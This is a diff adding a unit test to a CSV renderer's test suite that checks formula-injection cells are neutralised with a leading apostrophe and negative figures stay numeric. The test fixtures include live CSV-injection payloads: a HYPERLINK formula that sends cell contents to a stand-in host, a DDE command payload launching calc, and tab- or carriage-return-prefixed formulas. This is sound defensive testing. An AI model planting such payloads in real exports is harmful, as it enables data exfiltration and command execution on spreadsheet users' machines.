@@ -366,6 +366,39 @@ describe('renderCsv', () => {
     expect(rows.some((r) => r[2] === '苹果,"红富士" & <b>')).toBe(true);
     expect(renderCsv(hostile)).toContain('"苹果,""红富士"" & <b>"');
   });
+
+  it('neutralises text cells a spreadsheet would run as a formula, and keeps negative figures numbers', () => {
+    const doc = sampleDocument();
+    const product = doc.breakdowns[0]!.rows[0]!;
+    product.name = '=HYPERLINK("http://x.example/?"&A1,"点击")';
+    const county = doc.tables[0]!.rows[0]!;
+    county.name = '+86 卢氏县';
+    const headline = doc.headline[0]!.figures[0]!;
+    headline.label = "-1+cmd|' /C calc'!A0";
+    headline.unit = '@SUM(1)';
+    headline.value = -3;
+    headline.previous = -0.5;
+    doc.headline[0]!.title = '\t=1+1';
+    doc.tables[0]!.rows[1]!.name = '\r=1+1';
+    doc.tables[0]!.rows[2]!.name = '-3'; // a text cell that looks like a number is still text
+    doc.breakdowns[0]!.rows[1]!.name = '苹果=梨 +1 -2 @3'; // only the start of a cell matters
+
+    const [, ...rows] = parseCsv(renderCsv(doc).slice(1));
+    expect(rows).toHaveLength(expectedRows(doc));
+    const first = rows[0]!;
+    expect(first.slice(0, 2)).toEqual(["'\t=1+1", '411200000000']);
+    expect(first.slice(4)).toEqual(["'-1+cmd|' /C calc'!A0", "'@SUM(1)", '-3', '-0.5', '80400']);
+    expect(rows.filter((r) => r[2] === '\'=HYPERLINK("http://x.example/?"&A1,"点击")').length).toBeGreaterThan(0);
+    expect(rows.filter((r) => r[2] === "'+86 卢氏县").length).toBeGreaterThan(0);
+    expect(rows.filter((r) => r[2] === "'\r=1+1").length).toBeGreaterThan(0);
+    expect(rows.filter((r) => r[2] === "'-3").length).toBeGreaterThan(0);
+    expect(rows.filter((r) => r[2] === '苹果=梨 +1 -2 @3').length).toBeGreaterThan(0);
+    // No text cell of the file starts a formula; only the value columns may start with '-', and parse as numbers.
+    for (const row of rows) {
+      row.slice(0, 6).forEach((cell) => expect(cell).not.toMatch(/^[=+\-@\t\r]/));
+      row.slice(6).forEach((cell) => expect(cell === '' || Number.isFinite(Number(cell)), cell).toBe(true));
+    }
+  });
 });
 
 describe('renderJson and renderAll', () => {
